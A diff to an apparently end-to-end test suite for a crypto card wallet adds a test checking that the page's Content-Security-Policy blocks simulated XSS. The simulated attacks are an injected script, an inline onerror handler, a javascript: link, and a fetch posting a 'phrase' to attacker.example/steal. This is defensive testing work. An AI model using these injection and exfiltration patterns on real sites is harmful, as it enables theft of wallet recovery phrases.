@@ -3,7 +3,8 @@
 // (the payee's balance moves without a reload), make and redeem a payment link (and are told when one is too old to
 // redeem), request an amount by link, cash
 // out on chain, reload, and restore a wallet from its backup phrase. Every screen is photographed into
-// www/e2e/screenshots/, and no page may log an error or break its Content-Security-Policy on the way.
+// www/e2e/screenshots/, and no page may log an error or break its Content-Security-Policy on the way; a page of
+// its own then tries what injected code would, and the policy must refuse it.
 //
 // The steps build on each other (the link is paid from what was deposited), so they are one ordered suite.
 
@@ -495,6 +496,54 @@ test("Settings → Force exit disputes on chain and pays the card's Dai out, sho
   // The card is on the pair's next channel, empty: it no longer shows the Dai that was paid out.
   await waitForBalance(page, 0n);
   await screenshot(page, "force-exit-done");
+});
+
+test("the page's policy refuses an injected script, an inline handler, a javascript: link and a foreign fetch; the card still runs", async () => {
+  // A fresh context that is not one of the people: its violations are the point, so the last test does not
+  // look at them.
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const problems = await watchPage(page);
+  try {
+    await page.goto(dev.cardUrl);
+    await page.waitForSelector("#dai-balance", { timeout: 60_000 });
+    const outcome = await page.evaluate(async () => {
+      // What an XSS would try, had it found a way to write into the page.
+      const script = document.createElement("script");
+      script.textContent = "window.__injected = 'inline script';";
+      document.body.append(script);
+      const img = document.createElement("img");
+      img.setAttribute("onerror", "window.__injected = 'inline handler';");
+      img.src = "data:,not an image";
+      document.body.append(img);
+      const link = document.createElement("a");
+      link.href = "javascript:window.__injected = 'javascript: link'";
+      document.body.append(link);
+      link.click();
+      let fetchRefused = false;
+      try {
+        await fetch("https://attacker.example/steal", { method: "POST", body: "phrase" });
+      } catch {
+        fetchRefused = true;
+      }
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { injected: window.__injected ?? null, fetchRefused };
+    });
+    // (eval cannot be tried from here: Chromium lets code evaluated through DevTools, as this is, call it.)
+    assert.deepEqual(outcome, { injected: null, fetchRefused: true });
+    // One securitypolicyviolation event for each attempt (the javascript: link counts as an inline script).
+    const events = problems
+      .csp()
+      .map((r) => /^([a-z-]+) refused /.exec(r.text)?.[1])
+      .filter(Boolean)
+      .sort();
+    assert.deepEqual(events, ["connect-src", "img-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
+    // The card's own code (its .wasm under 'wasm-unsafe-eval') still runs: it still answers a click.
+    await page.click("#go-deposit");
+    await page.waitForSelector("#deposit-address");
+  } finally {
+    await context.close();
+  }
 });
 
 test("no page logged an error or broke its policy", () => {
